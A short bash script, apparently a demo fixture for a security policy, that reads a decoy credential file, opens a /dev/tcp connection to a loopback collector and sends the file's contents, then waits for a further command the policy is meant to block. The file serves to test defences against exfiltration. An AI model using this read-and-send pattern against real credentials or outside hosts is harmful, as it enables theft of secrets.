# A harmless attack: reads a decoy credential file, connects to a collector on loopback, waits for its go-ahead, and sends
# what it read. Run by a copy of bash of the demo's own, so that a policy can name exactly this program.
#   attacker attack.sh DECOY PORT
read -r stolen < "$1"
exec 3<> "/dev/tcp/127.0.0.1/$2"
printf 'hello\n' >&3
read -r -t 10 -u 3 answer
printf '%s\n' "$stolen" >&3
# The write above is the last step of the policy: what follows, a second load on the collector's word, never happens.
read -r -t 2 -u 3 answer
printf 'the attack went through to its end\n'
